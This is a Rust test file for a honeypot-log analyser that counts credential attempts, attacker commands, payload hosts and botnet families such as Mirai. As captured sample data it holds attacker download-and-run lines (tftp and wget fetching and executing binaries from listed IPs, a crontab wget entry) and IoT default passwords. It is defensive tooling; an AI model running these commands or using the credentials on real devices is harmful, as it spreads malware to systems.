//! Library-level tests on fixtures built from the seed (see fixtures/README.md).

use trawl_report::report::{Count, PairCount, Report};
use trawl_report::{Options, ReportError, analyze};

fn fixture(name: &str) -> String {
    format!("{}/tests/fixtures/{name}", env!("CARGO_MANIFEST_DIR"))
}

fn run(names: &[&str]) -> Report {
    run_with(names, &Options::default())
}

fn run_with(names: &[&str], opts: &Options) -> Report {
    let inputs: Vec<String> = names.iter().map(|n| fixture(n)).collect();
    match analyze(&inputs, opts) {
        Ok(r) => r,
        Err(e) => panic!("analyze {names:?}: {e}"),
    }
}

fn pairs(items: &[Count]) -> Vec<(&str, u64)> {
    items.iter().map(|c| (c.value.as_str(), c.count)).collect()
}

fn creds(items: &[PairCount]) -> Vec<(&str, &str, u64, Option<&str>)> {
    items
        .iter()
        .map(|p| (p.username.as_str(), p.password.as_str(), p.count, p.label))
        .collect()
}

const LINE_185: &str =
    "cd /var/tmp;cd /tmp;rm -f *;tftp -l 7up -r 7up -g 185.35.139.97;chmod a+x 7up;./7up";
const LINE_93: &str = "cd /tmp;rm -f *;tftp -l 7up -r 7up -g 93.190.142.201;chmod a+x 7up;./7up";

#[test]
fn seed_rows_top_tables_match_a_csvcut_recount() {
    let r = run(&["seed_heralding.csv"]);
    assert_eq!(r.totals.events, 19);
    assert_eq!(r.totals.bad_rows, 0);
    assert_eq!(
        pairs(&r.top_sources),
        [
            ("218.191.87.87", 10),
            ("46.118.141.45", 4),
            ("37.115.145.181", 2),
            ("77.105.72.253", 1),
            ("82.50.48.173", 1),
            ("89.121.167.211", 1)
        ]
    );
    assert_eq!(
        pairs(&r.top_usernames),
        [
            ("root", 8),
            ("enable", 3),
            ("shell", 3),
            ("Admin", 2),
            (LINE_185, 2),
            (LINE_93, 1)
        ]
    );
    assert_eq!(
        pairs(&r.top_passwords),
        [
            ("5up", 7),
            ("system", 6),
            ("sh", 3),
            ("123456", 1),
            ("klv123", 1),
            ("tl789", 1)
        ]
    );
    assert_eq!(
        r.protocols,
        [Count {
            value: "telnet".into(),
            count: 19
        }]
    );
    assert_eq!(
        r.ports,
        [Count {
            value: "23".into(),
            count: 19
        }]
    );
    let (first, last) = r.time_range.clone().unwrap_or_default();
    assert_eq!(
        (first.as_str(), last.as_str()),
        ("2016-12-14 21:50:14", "2016-12-14 22:54:25")
    );
}

#[test]
fn seed_rows_commands_are_told_from_credentials() {
    let r = run(&["seed_heralding.csv"]);
    assert_eq!(r.totals.credential_attempts, 10);
    assert_eq!(r.totals.command_entries, 9);
    // enable/shell usernames and system/sh passwords are commands, not credentials.
    assert_eq!(
        pairs(&r.top_credential_usernames),
        [("root", 8), ("Admin", 2)]
    );
    assert_eq!(
        pairs(&r.top_credential_passwords),
        [("5up", 7), ("123456", 1), ("klv123", 1), ("tl789", 1)]
    );
    assert_eq!(
        creds(&r.top_credentials),
        [
            ("root", "5up", 5, Some("iot-default")),
            ("Admin", "5up", 2, None),
            ("root", "123456", 1, Some("mirai")),
            ("root", "klv123", 1, Some("mirai")),
            ("root", "tl789", 1, Some("iot-default")),
        ]
    );
    let kinds: Vec<(&str, &str)> = r
        .top_pairs
        .iter()
        .map(|p| (p.username.as_str(), p.kind))
        .collect();
    assert!(kinds.contains(&("enable", "command")) && kinds.contains(&("shell", "command")));
    assert!(kinds.contains(&(LINE_185, "command")) && kinds.contains(&("root", "credential")));
    assert_eq!(
        pairs(&r.top_commands),
        [
            ("system", 6),
            ("enable", 3),
            ("sh", 3),
            ("shell", 3),
            (LINE_185, 2),
            (LINE_93, 1)
        ]
    );
    assert_eq!(r.iot.mirai_default_attempts, 2);
    assert_eq!(r.iot.iot_default_attempts, 6);
}

#[test]
fn seed_rows_payload_hosts_families_sessions() {
    let r = run(&["seed_heralding.csv"]);
    let hosts: Vec<(&str, u64, u64)> = r
        .payload_hosts
        .iter()
        .map(|p| (p.host.as_str(), p.attempts, p.scanners))
        .collect();
    assert_eq!(hosts, [("185.35.139.97", 2, 1), ("93.190.142.201", 1, 1)]);
    let p = &r.payload_hosts[0];
    assert_eq!(p.methods, ["tftp"]);
    assert_eq!(p.files, ["7up"]);
    assert_eq!(p.scanner_sample, ["46.118.141.45"]);
    assert_eq!(
        creds(&p.credentials),
        [
            ("Admin", "5up", 1, None),
            ("root", "5up", 1, Some("iot-default"))
        ]
    );
    assert_eq!(p.first_seen.as_deref(), Some("2016-12-14 22:12:34"));
    let fams: Vec<(&str, u64)> = r
        .iot
        .families
        .iter()
        .map(|f| (f.family, f.sources))
        .collect();
    assert_eq!(
        fams,
        [("brute force", 3), ("unknown loader", 2), ("Mirai", 1)]
    );
    assert_eq!(r.sessions.total, 10);
    assert_eq!(r.sessions.by_session_id, 10);
    assert_eq!(r.sessions.mirai_sequence, 3);
    assert_eq!(r.sessions.with_commands, 6);
    assert_eq!(r.sessions.with_downloads, 3);
    assert_eq!(r.downloads.len(), 2);
}

#[test]
fn seed_rows_campaigns_flag_the_tiny_7up_dictionary() {
    let r = run(&["seed_heralding.csv"]);
    let seven_up = r
        .campaigns
        .iter()
        .find(|c| c.source_sample.contains(&"46.118.141.45".to_string()))
        .unwrap_or_else(|| panic!("no 7up campaign in {:#?}", r.campaigns));
    assert_eq!(seven_up.source_sample, ["37.115.145.181", "46.118.141.45"]);
    assert_eq!(seven_up.family, "unknown loader");
    assert_eq!(seven_up.distinct_credentials, 2);
    assert_eq!(seven_up.payload_hosts, ["185.35.139.97", "93.190.142.201"]);
    assert!(
        seven_up
            .flags
            .iter()
            .any(|f| f.starts_with("tiny-unknown-dictionary")),
        "{:?}",
        seven_up.flags
    );
    let mirai = r
        .campaigns
        .iter()
        .find(|c| c.source_sample == ["218.191.87.87"])
        .unwrap_or_else(|| panic!("{:#?}", r.campaigns));
    assert_eq!(mirai.family, "Mirai");
    assert!(
        mirai.flags.is_empty(),
        "Mirai's dictionary is known: {:?}",
        mirai.flags
    );
    // With identical fingerprints only, the two 7up scanners stay apart.
    let strict = run_with(
        &["seed_heralding.csv"],
        &Options {
            jaccard: 1.0,
            ..Options::default()
        },
    );
    assert!(
        strict.campaigns.iter().all(|c| !(c.source_sample.len() == 2
            && c.source_sample.contains(&"46.118.141.45".to_string())))
    );
}

#[test]
fn seven_up_campaign_reproduces_the_seed_pipeline() {
    // The seed: 338 scanners pushed 89.33.64.118; their rows hold 693 tftp lines for it,
    // 350 Admin,5up and 347 root,5up, plus 2 lines each for 89.33.64.117 and 86.105.1.109.
    let r = run(&["seed_7up.csv"]);
    let host = r
        .payload_hosts
        .iter()
        .find(|p| p.host == "89.33.64.118")
        .unwrap_or_else(|| panic!("{:#?}", r.payload_hosts));
    assert_eq!((host.attempts, host.scanners), (693, 338));
    assert_eq!(
        creds(&host.credentials),
        [
            ("Admin", "5up", 350, None),
            ("root", "5up", 347, Some("iot-default"))
        ]
    );
    let others: Vec<(&str, u64)> = r
        .payload_hosts
        .iter()
        .map(|p| (p.host.as_str(), p.attempts))
        .collect();
    assert_eq!(
        others,
        [
            ("89.33.64.118", 693),
            ("86.105.1.109", 2),
            ("89.33.64.117", 2)
        ]
    );
    assert_eq!(r.campaigns.len(), 1);
    let c = &r.campaigns[0];
    assert_eq!((c.sources, c.distinct_credentials), (338, 2));
    assert!(
        c.flags.iter().any(|f| f.contains("only 2 credential pair")),
        "{:?}",
        c.flags
    );
}

#[test]
fn every_heralding_layout_and_gzip_give_the_same_counts() {
    let whole = run(&["seed_heralding.csv"]);
    let split = run(&["heralding_9col.csv", "heralding_11col.csv.gz"]);
    assert_eq!(split.inputs.len(), 2);
    assert!(
        split.inputs[0].format.contains("9 columns"),
        "{}",
        split.inputs[0].format
    );
    assert!(
        split.inputs[1].format.contains("11 columns") && split.inputs[1].format.contains("gzip")
    );
    assert_eq!(split.totals.events, 19);
    assert_eq!(split.top_usernames, whole.top_usernames);
    assert_eq!(split.top_credentials, whole.top_credentials);
    assert_eq!(split.sessions.total, whole.sessions.total);
    let with_sessions = run(&["seed_heralding.csv", "log_session.csv"]);
    assert_eq!(with_sessions.sessions.total, 10);
    assert_eq!(with_sessions.totals.login_prompt_entries, 19);
    assert!(with_sessions.inputs[1].format.contains("session CSV"));
}

/// Heralding's `log_session.json` alone holds every attempt (nested in its
/// sessions); read together with the `log_auth.csv` beside it, each attempt is
/// counted once. Logs of two directories (two sensors) are both counted.
#[test]
fn heralding_session_json_and_its_auth_log_count_each_attempt_once() {
    let csv_alone = run(&["seed_heralding.csv"]);
    // The seed's 19 entries, each once, in the 10 sessions.
    let counted_once = |r: &Report, what: &str| {
        assert_eq!(r.totals.login_prompt_entries, 19, "{what}");
        assert_eq!(
            r.totals.credential_attempts, csv_alone.totals.credential_attempts,
            "{what}"
        );
        assert_eq!(r.top_credentials, csv_alone.top_credentials, "{what}");
        assert_eq!(r.top_commands, csv_alone.top_commands, "{what}");
        assert_eq!(r.top_sources, csv_alone.top_sources, "{what}");
        assert_eq!(r.sessions.total, 10, "{what}");
    };
    let json_alone = run(&["log_session.json"]);
    assert!(
        json_alone.inputs[0]
            .format
            .starts_with("Heralding session JSON")
    );
    counted_once(&json_alone, "log_session.json alone");

    let sensor = tempfile::tempdir().unwrap();
    let other = tempfile::tempdir().unwrap();
    let copy = |dir: &std::path::Path, from: &str, to: &str| {
        let path = dir.join(to);
        std::fs::copy(fixture(from), &path).unwrap();
        path.display().to_string()
    };
    let auth = copy(sensor.path(), "seed_heralding.csv", "log_auth.csv");
    let beside = copy(sensor.path(), "log_session.json", "log_session.json");
    let elsewhere = copy(other.path(), "log_session.json", "log_session.json");
    let both = analyze(&[auth.clone(), beside], &Options::default()).unwrap();
    counted_once(&both, "auth log and session log of one directory");
    assert!(
        both.inputs[1]
            .format
            .contains("counted from the auth log beside it"),
        "{}",
        both.inputs[1].format
    );
    let glob = format!("{}/log_*", sensor.path().display());
    let globbed = analyze(&[glob], &Options::default()).unwrap();
    counted_once(&globbed, "a glob over the directory");

    let two_sensors = analyze(&[auth, elsewhere], &Options::default()).unwrap();
    assert_eq!(two_sensors.totals.login_prompt_entries, 38);
    assert_eq!(two_sensors.inputs[1].format, "Heralding session JSON");
}

#[test]
fn cowrie_sample() {
    let r = run(&["cowrie.json"]);
    assert_eq!(r.totals.bad_rows, 0);
    assert_eq!(r.totals.login_prompt_entries, 4);
    assert_eq!(r.totals.logins_succeeded, 3);
    assert_eq!(r.totals.shell_commands, 9);
    assert_eq!(r.totals.recorded_downloads, 2);
    assert_eq!(r.sessions.total, 3);
    assert_eq!(r.sessions.mirai_sequence, 1);
    let fam = |ip: &str| {
        r.campaigns
            .iter()
            .find(|c| c.source_sample.contains(&ip.to_string()))
            .map(|c| c.family)
    };
    assert_eq!(fam("198.51.100.7"), Some("Mirai"));
    assert_eq!(fam("198.51.100.23"), Some("Gafgyt"));
    assert_eq!(fam("203.0.113.200"), Some("Hajime"));
    let hosts: Vec<&str> = r.payload_hosts.iter().map(|p| p.host.as_str()).collect();
    assert!(
        hosts.contains(&"203.0.113.66")
            && hosts.contains(&"192.0.2.77")
            && hosts.contains(&"192.0.2.99"),
        "{hosts:?}"
    );
    let gafgyt = r
        .payload_hosts
        .iter()
        .find(|p| p.host == "203.0.113.66")
        .map(|p| p.methods.clone())
        .unwrap_or_default();
    // Cowrie's record of the wget's fetch (`session.file_download`, an `http` URL)
    // is the same fetch as the command line's, not one of its own.
    assert_eq!(gafgyt, ["curl", "ftpget", "tftp", "wget"]);
    let tokens: Vec<(&str, u64, Option<&str>)> = (r.iot.busybox_tokens.iter())
        .map(|t| (t.value.as_str(), t.count, t.variant))
        .collect();
    assert!(
        tokens.contains(&("MIRAI", 1, Some("Mirai (scanner)")))
            && tokens.contains(&("ECCHI", 1, Some("Mirai loader or Hajime"))),
        "{tokens:?}"
    );
    let bots = |ip: &str| {
        (r.campaigns.iter())
            .find(|c| c.source_sample.contains(&ip.to_string()))
            .map(|c| c.variants.clone())
    };
    assert_eq!(bots("198.51.100.7"), Some(vec!["Mirai (scanner)"]));
    assert_eq!(
        bots("203.0.113.200"),
        Some(vec!["Hajime", "Mirai loader or Hajime"]),
        "PEGOK and ECCHI"
    );
    assert_eq!(bots("198.51.100.23"), Some(vec![]), "Gafgyt sends no token");
    let durations: Vec<f64> = r.sessions.top.iter().map(|s| s.duration_seconds).collect();
    assert!(
        durations.contains(&15.321) && durations.contains(&12.5),
        "{durations:?}"
    );
    assert_eq!(
        pairs(&r.top_client_versions),
        [("SSH-2.0-libssh2_1.4.3", 1)]
    );
}

/// `client_version` in the `auxiliary_data` of Heralding's (and trawl's) session
/// records is counted per session; a value of another type, or an `auxiliary_data`
/// that is not an object, is ignored without making the line unreadable.
#[test]
fn client_versions_of_session_records_are_counted() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("log_session.json");
    let session = |id: &str, aux: &str| {
        format!(
            r#"{{"timestamp": "2024-05-01 10:00:00.000000", "duration": 3, "session_id": "{id}", "source_ip": "198.51.100.9", "source_port": 40000, "destination_ip": "", "destination_port": 22, "protocol": "ssh", "num_auth_attempts": 0, "auth_attempts": [], "session_ended": true, "auxiliary_data": {aux}}}"#
        )
    };
    let lines = [
        session(
            "a",
            r#"{"client_version": "SSH-2.0-Go", "recv_cipher": "aes128-ctr"}"#,
        ),
        session("b", r#"{"client_version": "SSH-2.0-Go"}"#),
        session("c", r#"{"client_version": "SSH-2.0-libssh-0.6.3"}"#),
        session("d", r#"{"client_version": 42}"#),
        session("e", r#""not an object""#),
        session("f", "{}"),
    ];
    std::fs::write(&path, lines.join("\n")).unwrap();
    let r = analyze(&[path.display().to_string()], &Options::default()).unwrap();
    assert_eq!(r.totals.bad_rows, 0);
    assert_eq!(r.sessions.total, 6);
    assert_eq!(
        pairs(&r.top_client_versions),
        [("SSH-2.0-Go", 2), ("SSH-2.0-libssh-0.6.3", 1)]
    );
    assert_eq!(
        r.totals.events, 6,
        "client versions are not events of their own"
    );
}

#[test]
fn opencanary_sample() {
    let r = run(&["opencanary.json"]);
    assert_eq!(r.totals.bad_rows, 0);
    assert_eq!(r.totals.login_prompt_entries, 5);
    assert_eq!(pairs(&r.protocols), [("ssh", 3), ("ftp", 1), ("telnet", 1)]);
    assert_eq!(r.sessions.by_session_id, 0);
    assert_eq!(r.sessions.by_time_gap, 4);
    let xc = r
        .top_credentials
        .iter()
        .find(|p| p.password == "xc3511")
        .map(|p| p.label);
    assert_eq!(xc, Some(Some("mirai")));
    // The SSH client's version, once per connection (4001), not an event.
    let clients: Vec<(&str, u64)> = (r.top_client_versions.iter())
        .map(|c| (c.value.as_str(), c.count))
        .collect();
    assert_eq!(clients, [("SSH-2.0-Go", 1)]);
    assert_eq!(r.totals.events, 6, "five logins and a connection");
}

#[test]
fn malformed_rows_are_counted_with_file_and_line() {
    let r = run(&["malformed.csv", "malformed.jsonl"]);
    let shown: Vec<(String, u64)> = r
        .bad_rows
        .shown
        .iter()
        .map(|b| {
            (
                b.file.rsplit('/').next().unwrap_or_default().to_string(),
                b.line,
            )
        })
        .collect();
    let expect: Vec<(String, u64)> = [
        ("malformed.csv", 3),
        ("malformed.csv", 4),
        ("malformed.csv", 5),
        ("malformed.csv", 9),
        ("malformed.jsonl", 2),
        ("malformed.jsonl", 3),
        ("malformed.jsonl", 4),
        ("malformed.jsonl", 5),
        ("malformed.jsonl", 6),
    ]
    .iter()
    .map(|(f, l)| (f.to_string(), *l))
    .collect();
    assert_eq!(shown, expect);
    assert_eq!(r.bad_rows.total, 9);
    assert!(
        r.bad_rows.shown[0]
            .reason
            .contains("expected 10 columns, found 9"),
        "{:?}",
        r.bad_rows.shown[0]
    );
    assert!(r.bad_rows.shown[1].reason.contains("bad timestamp"));
    assert!(r.bad_rows.shown[2].reason.contains("bad source_ip"));
    // The quoted multi-line row and the row with control characters are read.
    assert_eq!(r.totals.events, 6);
    assert!(r.top_usernames.iter().any(|c| c.value == "multi\nline"));
    let strict = analyze(
        &[fixture("malformed.csv")],
        &Options {
            strict: true,
            ..Options::default()
        },
    );
    match strict {
        Err(ReportError::BadRow { file, line, reason }) => {
            assert!(
                file.ends_with("malformed.csv") && line == 3,
                "{file}:{line}: {reason}"
            );
        }
        other => panic!("expected a strict failure, got {other:?}"),
    }
}

#[test]
fn filters_select_rows() {
    use trawl_report::Filters;
    let since = trawl_report::time::parse_bound("2016-12-14 22:00:00");
    let opts = Options {
        filters: Filters {
            since,
            ..Filters::default()
        },
        ..Options::default()
    };
    let r = run_with(&["seed_heralding.csv"], &opts);
    assert_eq!(r.totals.events, 9);
    assert_eq!(r.totals.filtered_out, 10);
    let net = "46.118.0.0/16".parse().ok();
    let opts = Options {
        filters: Filters {
            sources: net.into_iter().collect(),
            ..Filters::default()
        },
        ..Options::default()
    };
    assert_eq!(run_with(&["seed_heralding.csv"], &opts).totals.events, 4);
    let opts = Options {
        filters: Filters {
            protocols: vec!["ssh".into()],
            ..Filters::default()
        },
        ..Options::default()
    };
    assert_eq!(
        run_with(&["seed_heralding.csv", "opencanary.json"], &opts)
            .totals
            .login_prompt_entries,
        3
    );
    let opts = Options {
        top: 2,
        ..Options::default()
    };
    assert_eq!(
        run_with(&["seed_heralding.csv"], &opts).top_sources.len(),
        2
    );
}

/// `--exclude-source` drops the sources of its networks, after `--source`, keeps
/// events without an address, and the report names every filter it was made with.
#[test]
fn excluded_sources_are_left_out_and_the_report_says_so() {
    use trawl_report::Filters;
    use trawl_report::filter::{AppliedFilters, Networks};
    let nets = |list: &[&str]| -> Networks { list.iter().filter_map(|n| n.parse().ok()).collect() };
    let plain = run_with(&["seed_heralding.csv"], &Options::default());
    assert_eq!(plain.filters, None);
    let opts = Options {
        filters: Filters {
            exclude_sources: nets(&["46.118.0.0/16"]),
            ..Filters::default()
        },
        ..Options::default()
    };
    let r = run_with(&["seed_heralding.csv"], &opts);
    assert_eq!((r.totals.events, r.totals.filtered_out), (15, 4));
    assert!(
        r.top_sources
            .iter()
            .all(|s| !s.value.starts_with("46.118."))
    );
    assert_eq!(
        r.filters,
        Some(AppliedFilters {
            exclude_sources: vec!["46.118.0.0/16".into()],
            ..AppliedFilters::default()
        })
    );
    // Keep 218.0.0.0/8 and 46.0.0.0/8, then leave one address of them out.
    let opts = Options {
        filters: Filters {
            since: trawl_report::time::parse_bound("2016-12-14"),
            sources: nets(&["218.0.0.0/8", "46.0.0.0/8"]),
            exclude_sources: nets(&["218.191.87.87/32"]),
            ..Filters::default()
        },
        ..Options::default()
    };
    let r = run_with(&["seed_heralding.csv"], &opts);
    let kept: u64 = plain
        .top_sources
        .iter()
        .filter(|s| s.value.starts_with("218.") || s.value.starts_with("46."))
        .filter(|s| s.value != "218.191.87.87")
        .map(|s| s.count)
        .sum();
    assert!(kept > 0);
    assert_eq!(r.totals.events, kept);
    let applied = r.filters.expect("filters");
    assert_eq!(applied.since.as_deref(), Some("2016-12-14 00:00:00"));
    assert_eq!(applied.sources, ["218.0.0.0/8", "46.0.0.0/8"]);
    // Events without an address (OpenCanary's port scans have one; a Cowrie
    // record may not) are not dropped by an exclusion.
    let all = run_with(&["cowrie.json"], &Options::default());
    let opts = Options {
        filters: Filters {
            exclude_sources: nets(&["0.0.0.0/0", "::/0"]),
            ..Filters::default()
        },
        ..Options::default()
    };
    let none = run_with(&["cowrie.json"], &opts);
    assert_eq!(none.totals.sources, 0);
    assert_eq!(
        none.totals.events + none.totals.filtered_out,
        all.totals.events
    );
}

#[test]
fn missing_and_unknown_inputs_are_errors() {
    assert!(matches!(
        analyze(&[fixture("nope.csv")], &Options::default()),
        Err(ReportError::NoInput(_))
    ));
    assert!(matches!(
        analyze(&[fixture("*.nothing")], &Options::default()),
        Err(ReportError::NoInput(_))
    ));
    assert!(matches!(
        analyze(&[fixture("README.md")], &Options::default()),
        Err(ReportError::UnknownFormat { .. })
    ));
    let globbed = run(&["seed_*.csv"]);
    assert_eq!(globbed.inputs.len(), 2);
}

#[test]
fn small_blocks_and_many_workers_give_the_same_report() {
    // seed_7up.csv spans ~10 hours: with 64 KiB blocks (~3 h each), sessions inside blocks are
    // folded into counters early and boundary sessions merged at the end.
    let whole = run(&["seed_7up.csv"]);
    let opts = Options {
        block_size: 65_536,
        threads: 3,
        ..Options::default()
    };
    let split = run_with(&["seed_7up.csv"], &opts);
    assert_eq!(whole.sessions.total, 697);
    assert_eq!(split.sessions.total, whole.sessions.total);
    assert_eq!(
        split.sessions.attempts_histogram,
        whole.sessions.attempts_histogram
    );
    assert_eq!(split.sessions.with_downloads, whole.sessions.with_downloads);
    assert_eq!(split.top_sources, whole.top_sources);
    assert_eq!(split.top_pairs, whole.top_pairs);
    assert_eq!(split.totals.events, whole.totals.events);
    assert_eq!(split.payload_hosts.len(), whole.payload_hosts.len());
    assert_eq!(split.campaigns.len(), whole.campaigns.len());
}

/// Writes a Heralding CSV where a few busy sources each try far more distinct
/// credential pairs and command lines than a source keeps (64 pairs, 16 lines), and
/// payload hosts see many files: the cases where a capped list could depend on which
/// worker saw which rows.
fn busy_sources_log(dir: &std::path::Path) -> String {
    use std::fmt::Write as _;
    let mut csv = String::from(
        "timestamp,auth_id,session_id,source_ip,source_port,destination_ip,destination_port,protocol,username,password\n",
    );
    for i in 0..6_000u32 {
        let src = i % 5;
        let user = format!("user{}", (i * 7919) % 300);
        let line = format!(
            "cd /tmp;tftp -l f{} -r f{} -g 198.51.100.{};chmod a+x f;./f",
            i % 40,
            i % 40,
            i % 3
        );
        let (name, pass) = if i % 4 == 0 {
            (line.as_str(), "system")
        } else {
            (user.as_str(), "pw")
        };
        let _ = writeln!(
            csv,
            "2016-12-14 {:02}:{:02}:{:02}.000000,a{i},s{},203.0.113.{src},{},,23,telnet,{name},{pass}{}",
            (i / 3600) % 24,
            (i / 60) % 60,
            i % 60,
            i / 3,
            40_000 + i / 3,
            i % 11
        );
    }
    let path = dir.join("busy.csv");
    std::fs::write(&path, csv).expect("write busy.csv");
    path.to_string_lossy().into_owned()
}

#[test]
fn capped_per_source_lists_do_not_depend_on_the_thread_split() {
    let dir = tempfile::tempdir().expect("tempdir");
    let input = vec![busy_sources_log(dir.path())];
    let single = Options {
        threads: 1,
        ..Options::default()
    };
    let reference = analyze(&input, &single).expect("single-threaded report");
    let reference = serde_json::to_string(&reference).expect("serialize");
    for threads in [2, 3, 4] {
        let split = Options {
            threads,
            block_size: 4_096,
            ..Options::default()
        };
        let report = analyze(&input, &split).expect("multi-threaded report");
        let got = serde_json::to_string(&report).expect("serialize");
        let first_difference = got
            .bytes()
            .zip(reference.bytes())
            .position(|(a, b)| a != b)
            .unwrap_or(got.len().min(reference.len()));
        assert!(
            got == reference,
            "{threads} threads with 4 KiB blocks gave a different report; first difference at \
             byte {first_difference}: {:?} vs {:?}",
            got.get(first_difference.saturating_sub(200)..first_difference + 200),
            reference.get(first_difference.saturating_sub(200)..first_difference + 200)
        );
    }
}

/// Cowrie logs every shell line as `command.input`, each command in it that it does
/// not emulate again as `command.failed`, and lines typed into a running command's
/// stdin as `command.input` with a `realm`: only the first are commands.
#[test]
fn cowrie_failed_commands_and_stdin_lines_are_not_counted_again() {
    let dir = tempfile::tempdir().expect("temp dir");
    let record = |second: u32, rest: &str| {
        format!(
            r#"{{{rest},"session":"f00d","src_ip":"198.51.100.40","protocol":"ssh","timestamp":"2024-08-01T10:00:{second:02}.000000Z"}}"#
        )
    };
    let lines = [
        record(
            0,
            r#""eventid":"cowrie.login.success","username":"root","password":"admin""#,
        ),
        record(
            1,
            r#""eventid":"cowrie.command.input","input":"foo; wget http://203.0.113.9/x.sh""#,
        ),
        record(1, r#""eventid":"cowrie.command.failed","input":"foo ""#),
        record(
            2,
            r#""eventid":"cowrie.command.input","input":"crontab -e""#,
        ),
        record(
            3,
            r#""eventid":"cowrie.command.input","realm":"crontab","input":"* * * * * wget http://198.51.100.99/y""#,
        ),
    ];
    let log = dir.path().join("cowrie.json");
    std::fs::write(&log, lines.join("\n") + "\n").expect("write log");
    let r = match analyze(&[log.display().to_string()], &Options::default()) {
        Ok(r) => r,
        Err(e) => panic!("analyze: {e}"),
    };
    assert_eq!(r.totals.bad_rows, 0);
    assert_eq!(r.totals.shell_commands, 2, "the two shell lines, once each");
    assert_eq!(
        pairs(&r.top_commands),
        [("crontab -e", 1), ("foo; wget http://203.0.113.9/x.sh", 1)]
    );
    let hosts: Vec<&str> = r.payload_hosts.iter().map(|p| p.host.as_str()).collect();
    assert_eq!(hosts, ["203.0.113.9"], "stdin data is no download command");
}
